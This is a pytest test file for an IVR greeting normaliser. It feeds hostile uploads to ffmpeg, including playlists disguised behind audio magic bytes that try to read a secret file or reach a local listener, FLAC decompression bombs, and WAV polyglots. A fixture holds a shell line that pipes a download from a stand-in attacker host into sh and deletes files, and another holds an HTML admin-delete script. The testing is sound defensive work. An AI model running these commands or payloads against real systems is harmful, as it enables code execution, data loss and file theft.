"""Hostile uploads, built here: each is refused with one line or comes out as 8 kHz mono μ-law on target.

Real ffmpeg, real files, and a real TCP listener on 127.0.0.1 that no upload may ever reach.
"""

import re
import secrets
import shlex
import socket
import struct
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import numpy as np
import pytest

from audio.errors import AudioError, RefusedAudio
from audio.ffmpeg import INPUT_PROTOCOLS, SEEKABLE_INPUT_PROTOCOLS, run_ffmpeg
from audio.normalize import PEAK_CEILING_DBTP, TARGET_LUFS, NormalizedGreeting, normalize_greeting
from tests.audio.signals import TIMEOUT_S, decoded, ffmpeg, loudness_and_peak, probe, speech_wav
from tests.conftest import REPO

GREETING = "Goedemiddag, u spreekt met Huisartsenpraktijk De Linde. Wij zijn open van acht tot vijf."
# normalize.py promises ±0.5 LU; whatever it lets out must keep that promise.
PROMISED_LU = 0.5
SECRET_TONE_HZ = 1234
SCRIPT = b"\n#!/bin/sh\ncurl -s http://attacker.invalid/payload | sh\nrm -rf ~/greetings\n"
NOTES = b"Dear caller, we are closed today.\n"
HTML = b"<!doctype html><html><body><script>fetch('/admin/delete-all',{method:'POST'})</script></body></html>"


class Listener:
    """A TCP server on 127.0.0.1 that records every connection; nothing an upload names may reach it."""

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._server.getsockname()[1]}/greeting.wav"
        self._stop_token = secrets.token_bytes(16)
        self._requests: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            connection, _address = self._server.accept()
            with connection:
                connection.settimeout(TIMEOUT_S)
                try:
                    received = connection.recv(4096)
                except TimeoutError:
                    received = b""
            if received == self._stop_token:
                return
            self._requests.append(received)

    def stop(self) -> list[bytes]:
        """Every connection made so far: the backlog is first in, first out, so the stop token comes last."""
        if self._thread.is_alive():
            with socket.create_connection(self._server.getsockname(), timeout=TIMEOUT_S) as stopper:
                stopper.sendall(self._stop_token)
            self._thread.join(TIMEOUT_S)
            self._server.close()
        return self._requests


@pytest.fixture
def listener() -> Iterator[Listener]:
    served = Listener()
    yield served
    served.stop()


@dataclass(frozen=True)
class Corpus:
    folder: Path
    speech: bytes  # espeak-ng speech, 22.05 kHz mono WAV, about 5.8 s
    speech_s: float
    secret: Path  # a WAV no upload may read: a steady tone


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    folder = tmp_path_factory.mktemp("hostile")
    speech = speech_wav(folder / "speech.wav", GREETING).read_bytes()
    secret = folder / "secret.wav"
    ffmpeg("-f", "lavfi", "-i", f"sine=f={SECRET_TONE_HZ}:d=3", str(secret))
    return Corpus(folder, speech, len(decoded(speech)) / 8000, secret)


def one_line(error: AudioError) -> str:
    message = str(error)
    assert message and "\n" not in message, repr(message)
    return message


def outcome(data: bytes) -> NormalizedGreeting | AudioError:
    try:
        return normalize_greeting(data)
    except AudioError as error:
        one_line(error)
        return error


def assert_telephone_ready(result: NormalizedGreeting) -> None:
    probed = probe(result.wav)
    assert (probed.codec, probed.rate_hz, probed.channels) == ("pcm_mulaw", 8000, 1)
    lufs, peak = loudness_and_peak(result.wav)
    assert abs(lufs - TARGET_LUFS) <= PROMISED_LU, f"{lufs:.2f} LUFS written, report says {result.report.output_lufs}"
    assert peak <= PEAK_CEILING_DBTP, peak
    assert abs(len(decoded(result.wav)) / 8000 - result.report.duration_s) < 0.01


def float_wav(samples: np.ndarray, rate_hz: int = 22050) -> bytes:
    raw = samples.astype("<f4").tobytes()
    return ffmpeg(*shlex.split(f"-f f32le -ar {rate_hz} -ac 1 -i pipe:0 -c:a pcm_f32le -f wav pipe:1"), stdin=raw)


def convert(data: bytes, *options: str) -> bytes:
    return ffmpeg("-i", "pipe:0", *options, "pipe:1", stdin=data)


def with_data_size(wav: bytes, size: int) -> bytes:
    """The same WAV with its RIFF and data chunk sizes replaced: a header that lies about the length."""
    patched = bytearray(wav)
    data_at = patched.index(b"data")
    patched[data_at + 4 : data_at + 8] = struct.pack("<I", size)
    patched[4:8] = struct.pack("<I", min(0xFFFFFFFF, size + data_at - 4))
    return bytes(patched)


# ---- playlists and scripts: they name other files and URLs, and nothing they name may be opened ----


def hls(url: str, secret: Path) -> bytes:
    return (
        f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\n{url}\n"
        f"#EXTINF:3.0,\nfile://{secret}\n#EXTINF:3.0,\n{secret}\n#EXT-X-ENDLIST\n"
    ).encode()


def ffconcat(url: str, secret: Path) -> bytes:
    # A bare path is taken relative to the script's own URL (pipe:), so the file: form is the one that would work.
    return f"ffconcat version 1.0\nfile 'file:{secret}'\nfile '{secret}'\nfile '{url}'\n".encode()


def ffconcat_url_first(url: str, secret: Path) -> bytes:
    return f"ffconcat version 1.0\nfile '{url}'\nfile 'file:{secret}'\n".encode()


Playlist = Callable[[str, Path], bytes]


def behind(prefix: bytes, build: Playlist) -> Playlist:
    return lambda url, secret: prefix + build(url, secret)


RIFF = b"RIFF\xff\xff\xff\xffWAVE"
# Each magic-byte prefix makes the sniffer pick a real demuxer; the playlist behind it must not come alive.
PLAYLISTS: list[tuple[str, str, Playlist]] = [
    ("HLS playlist", "greeting.wav", hls),
    ("HLS playlist after blank lines", "greeting.mp3", behind(b"\r\n \t\n", hls)),
    ("ffconcat script", "greeting.mp3", ffconcat),
    ("HLS behind a RIFF/WAVE header", "greeting.wav", behind(RIFF, hls)),
    ("ffconcat behind a RIFF/WAVE header", "greeting.wav", behind(RIFF, ffconcat)),
    ("HLS behind an ID3 tag", "greeting.mp3", behind(b"ID3\x04\x00\x00\x00\x00\x00\x00", hls)),
    ("HLS behind an MP3 frame sync", "greeting.mp3", behind(b"\xff\xfb\x90\x00", hls)),
    ("HLS behind an ADTS sync", "greeting.aac", behind(b"\xff\xf1\x50\x80", hls)),
    ("HLS behind OggS", "greeting.ogg", behind(b"OggS", hls)),
    ("ffconcat behind fLaC", "greeting.flac", behind(b"fLaC", ffconcat)),
    ("HLS behind an MP4 ftyp box", "greeting.m4a", behind(b"\x00\x00\x00\x18ftypM4A ", hls)),
    ("HLS behind an EBML header", "greeting.webm", behind(b"\x1a\x45\xdf\xa3", hls)),
]


@pytest.mark.parametrize(("name", "file_name", "build"), PLAYLISTS, ids=[case[0] for case in PLAYLISTS])
def test_playlists_and_scripts_are_refused_without_opening_what_they_name(
    corpus: Corpus,
    listener: Listener,
    tmp_path: Path,
    name: str,
    file_name: str,
    build: Playlist,
) -> None:
    upload = tmp_path / file_name
    upload.write_bytes(build(listener.url, corpus.secret))
    with pytest.raises(RefusedAudio) as refused:
        normalize_greeting(upload.read_bytes())
    one_line(refused.value)
    assert listener.stop() == []


DEMUXERS_WITH_REFERENCES = [
    pytest.param("hls", hls, [], id="hls"),
    pytest.param("concat", ffconcat, ["-safe", "0"], id="concat file"),
    pytest.param("concat", ffconcat_url_first, ["-safe", "0"], id="concat url"),
]


@pytest.mark.parametrize("protocols", [INPUT_PROTOCOLS, SEEKABLE_INPUT_PROTOCOLS])
@pytest.mark.parametrize(("demuxer", "build", "options"), DEMUXERS_WITH_REFERENCES)
def test_the_protocol_whitelist_holds_even_if_a_playlist_reached_its_demuxer(
    corpus: Corpus,
    listener: Listener,
    protocols: str,
    demuxer: str,
    build: Playlist,
    options: list[str],
) -> None:
    # Defence in depth: the sniffer never forces these demuxers; if it ever did, ffmpeg must still open nothing.
    arguments = ["-protocol_whitelist", protocols, "-f", demuxer, *options, "-i", "pipe:0", "-f", "wav", "pipe:1"]
    with pytest.raises(RefusedAudio):
        run_ffmpeg(arguments, build(listener.url, corpus.secret), timeout_s=TIMEOUT_S, refuse_as="playlist")
    assert listener.stop() == []


def test_without_the_whitelist_the_same_playlists_would_reach_the_network_and_the_disk(
    corpus: Corpus, listener: Listener
) -> None:
    # The control for the test above: it shows the listener and the secret file would notice an open.
    with pytest.raises(RefusedAudio):
        run_ffmpeg(
            ["-protocol_whitelist", "pipe,http,tcp", "-f", "hls", "-i", "pipe:0", "-f", "wav", "pipe:1"],
            hls(listener.url, corpus.secret),
            timeout_s=TIMEOUT_S,
            refuse_as="playlist",
        )
    assert len(listener.stop()) >= 1
    script = f"ffconcat version 1.0\nfile 'file:{corpus.secret}'\n".encode()
    concat = shlex.split("-protocol_whitelist pipe,file -f concat -safe 0 -i pipe:0 -ac 1 -ar 8000 -f f32le pipe:1")
    read = run_ffmpeg(concat, script, refuse_as="playlist")
    tone = np.frombuffer(read, dtype="<f4")
    assert abs(np.argmax(np.abs(np.fft.rfft(tone))) * 8000 / len(tone) - SECRET_TONE_HZ) < 2


# ---- everything else: refused in one line, or telephone-ready and on target ----

Expect = Literal["refused", "ready", "either"]


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Corpus], bytes]
    expect: Expect
    refusal: str = ""  # words the refusal must hold


def truncated_mp3(corpus: Corpus, keep_bytes: int) -> bytes:
    return convert(corpus.speech, "-f", "mp3")[:keep_bytes]  # the whole mp3 is about 23 kB


def click_in_silence(corpus: Corpus) -> bytes:
    samples = np.zeros(3 * 22050)
    samples[len(samples) // 2] = 1.0
    return float_wav(samples)


CASES = [
    Case("zero bytes", lambda corpus: b"", "refused", "empty"),
    Case("text named .mp3", lambda corpus: NOTES * 40, "refused", "not an audio format"),
    Case("HTML named .mp3", lambda corpus: HTML, "refused", "not an audio format"),
    Case("a shell script named .wav", lambda corpus: SCRIPT.lstrip(), "refused", "not an audio format"),
    Case("RIFF/WAVE header only", lambda corpus: b"RIFF\x04\x00\x00\x00WAVE", "refused"),
    Case("WAV header, no samples", lambda corpus: corpus.speech[:44], "refused"),
    Case("ID3 tag claiming 256 MB", lambda corpus: b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + b"\x00" * 4096, "refused"),
    *(
        Case(f"mp3 cut to {size} bytes", lambda corpus, size=size: truncated_mp3(corpus, size), "either")
        for size in (12000, 2000, 300, 10)
    ),
    Case("WAV cut mid-sample", lambda corpus: corpus.speech[: len(corpus.speech) // 2 + 1], "ready"),
    Case("a 7999 Hz WAV", lambda corpus: convert(corpus.speech, "-ar", "7999", "-f", "wav"), "refused", "8 to 192 kHz"),
    Case("over 50 MB", lambda corpus: corpus.speech + bytes(50 * 2**20), "refused", "larger than 50 MB"),
    Case("a lone click in silence", click_in_silence, "either"),
    Case("DC offset only", lambda corpus: float_wav(np.full(3 * 22050, 0.5)), "either"),
]


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_hostile_input_is_refused_in_one_line_or_comes_out_telephone_ready(corpus: Corpus, case: Case) -> None:
    result = outcome(case.build(corpus))
    if isinstance(result, AudioError):
        assert case.expect != "ready", f"refused: {result}"
        assert case.refusal in str(result)
    else:
        assert case.expect != "refused", "accepted"
        assert_telephone_ready(result)


ODD_CODECS = [
    ("IMA ADPCM WAV", ["-c:a", "adpcm_ima_wav", "-f", "wav"]),
    ("MS ADPCM WAV", ["-c:a", "adpcm_ms", "-f", "wav"]),
    ("Opus in Ogg", ["-c:a", "libopus", "-f", "ogg"]),
    ("11025 Hz 8-bit unsigned WAV", ["-ar", "11025", "-c:a", "pcm_u8", "-f", "wav"]),
    ("mono 96 kHz 24-bit FLAC", ["-ar", "96000", "-sample_fmt", "s32", "-c:a", "flac", "-f", "flac"]),
    ("8 kHz A-law WAV", ["-ar", "8000", "-c:a", "pcm_alaw", "-f", "wav"]),
    ("8 kHz GSM 6.10 WAV", ["-ar", "8000", "-c:a", "libgsm_ms", "-f", "wav"]),
    ("192 kHz 64-bit float WAV", ["-ar", "192000", "-c:a", "pcm_f64le", "-f", "wav"]),
    ("5.1 24-bit WAV", ["-af", "pan=5.1|c0=c0|c1=c0|c2=c0|c3=c0|c4=c0|c5=c0", "-c:a", "pcm_s24le", "-f", "wav"]),
    ("8 kHz mp3", ["-ar", "8000", "-f", "mp3"]),
    ("raw AAC (ADTS)", ["-c:a", "aac", "-f", "adts"]),
]


@pytest.mark.parametrize(("name", "options"), ODD_CODECS, ids=[case[0] for case in ODD_CODECS])
def test_odd_codecs_are_normalised(corpus: Corpus, name: str, options: list[str]) -> None:
    result = normalize_greeting(convert(corpus.speech, *options))
    assert_telephone_ready(result)
    # MP3 at 8 kHz has 72 ms frames; encoder delay and padding add a few of them.
    assert abs(result.report.input_duration_s - corpus.speech_s) < 0.25


def test_an_m4a_with_its_index_after_64_kb_of_audio_is_decoded(corpus: Corpus, tmp_path: Path) -> None:
    # What ffmpeg and many recorders write by default: the moov box after the audio, here 23 s, about 200 kB.
    m4a = tmp_path / "recording.m4a"
    ffmpeg("-i", "pipe:0", "-af", "aloop=loop=3:size=130000", "-ac", "2", "-ar", "44100", "-c:a", "aac", str(m4a),
           stdin=corpus.speech)  # fmt: skip
    assert m4a.read_bytes().rfind(b"moov") > m4a.read_bytes().find(b"mdat") > 0
    result = outcome(m4a.read_bytes())
    assert isinstance(result, NormalizedGreeting), f"refused: {result}"
    assert_telephone_ready(result)


def flac_hours(source: str, hours: float) -> bytes:
    # The largest FLAC frames: steady sound packs hours into kilobytes.
    return ffmpeg(
        *shlex.split(f"-f lavfi -i {source} -t {hours * 3600:.0f} -c:a flac -frame_size 65535 -f flac pipe:1")
    )


def test_a_flac_bomb_is_refused_as_too_long(corpus: Corpus) -> None:
    three_hours = flac_hours("sine=f=440:r=8000", 3)
    assert probe(three_hours).codec == "flac"
    silent_hours = flac_hours("anullsrc=r=8000:cl=mono", 3)
    assert len(silent_hours) < 64 * 1024  # three hours in a few kB: the shape of a decompression bomb
    for bomb in (three_hours, silent_hours):
        with pytest.raises(RefusedAudio) as refused:
            normalize_greeting(bomb)
        assert "longer than 5 minutes" in one_line(refused.value)


@pytest.mark.parametrize("size", [0xFFFFFFF0, 0], ids=["claims 4 GB", "claims nothing (streamed)"])
def test_a_wav_header_that_lies_about_the_length_is_measured_not_trusted(corpus: Corpus, size: int) -> None:
    result = normalize_greeting(with_data_size(corpus.speech, size))
    assert abs(result.report.input_duration_s - corpus.speech_s) < 0.01
    assert result.report.duration_s <= corpus.speech_s
    assert_telephone_ready(result)


@pytest.mark.parametrize("trailer", [SCRIPT, HTML], ids=["shell script", "HTML"])
@pytest.mark.parametrize("size", [None, 0], ids=["true data size", "data size 0"])
def test_a_wav_polyglot_comes_out_as_audio_only(corpus: Corpus, trailer: bytes, size: int | None) -> None:
    wav = corpus.speech if size is None else with_data_size(corpus.speech, size)
    result = normalize_greeting(wav + trailer)
    assert_telephone_ready(result)
    for needle in (trailer.strip(), b"#!/bin/sh", b"<script"):
        assert needle not in result.wav
        assert needle not in result.preview_mp3
    assert abs(result.report.input_duration_s - corpus.speech_s) < 0.01


def test_float_samples_beyond_full_scale_do_not_erase_the_greeting(corpus: Corpus) -> None:
    samples = decoded(corpus.speech, rate_hz=22050)
    samples[len(samples) // 3] = 1e30  # legal in a float WAV; one bad sample
    result = outcome(float_wav(samples))
    if isinstance(result, NormalizedGreeting):
        assert result.report.duration_s > corpus.speech_s - 1.0, result.report.text()
        assert_telephone_ready(result)


@pytest.mark.parametrize("bad", [np.nan, np.inf], ids=["NaN", "infinity"])
def test_non_finite_samples_are_refused_as_invalid_not_as_silence(corpus: Corpus, bad: float) -> None:
    samples = decoded(corpus.speech, rate_hz=22050)
    samples[len(samples) // 3] = bad
    with pytest.raises(RefusedAudio) as refused:
        normalize_greeting(float_wav(samples))
    # The recording is loud speech with one corrupt sample: "check the microphone" sends the user the wrong way.
    assert "silen" not in one_line(refused.value)


LIMITS = [
    pytest.param(lambda: float_wav(np.sin(np.arange(3992) * 2 * np.pi * 440 / 8000) / 2, rate_hz=8000), id="0.499 s"),
    pytest.param(lambda: b"RIFF" + bytes(50 * 2**20 - 3), id="50 MB and 1 byte"),
]


@pytest.mark.parametrize("build", LIMITS)
def test_a_refusal_at_a_limit_does_not_contradict_itself(build: Callable[[], bytes]) -> None:
    with pytest.raises(RefusedAudio) as refused:
        normalize_greeting(build())
    numbers = [float(number) for number in re.findall(r"\d+(?:\.\d+)?", one_line(refused.value))]
    # Either it names only the limit, or the value it found differs visibly from the limit.
    assert len(numbers) == 1 or numbers[0] != numbers[1], str(refused.value)


# ---- the command line: one line on stderr, exit 1, no output file ----

CLI_CASES: list[tuple[str, Callable[[Corpus, Listener], bytes]]] = [
    ("playlist.wav", lambda corpus, listener: hls(listener.url, corpus.secret)),
    ("script.mp3", lambda corpus, listener: ffconcat(listener.url, corpus.secret)),
    ("empty.wav", lambda corpus, listener: b""),
    ("notes.mp3", lambda corpus, listener: NOTES),
]


@pytest.mark.parametrize(("file_name", "build"), CLI_CASES, ids=[case[0] for case in CLI_CASES])
def test_the_cli_refuses_in_one_line_and_writes_nothing(
    corpus: Corpus,
    listener: Listener,
    tmp_path: Path,
    file_name: str,
    build: Callable[[Corpus, Listener], bytes],
) -> None:
    upload, target = tmp_path / file_name, tmp_path / "out.wav"
    upload.write_bytes(build(corpus, listener))
    command = [sys.executable, "-m", "ivr", "audio", "normalize", str(upload), str(target)]
    result = subprocess.run(command, capture_output=True, text=True, cwd=REPO, timeout=TIMEOUT_S, check=False)
    assert result.returncode == 1
    assert re.fullmatch(r"greetline: error: [^\n]+\n", result.stderr), result.stderr
    assert result.stdout == ""
    assert not target.exists()
    assert listener.stop() == []
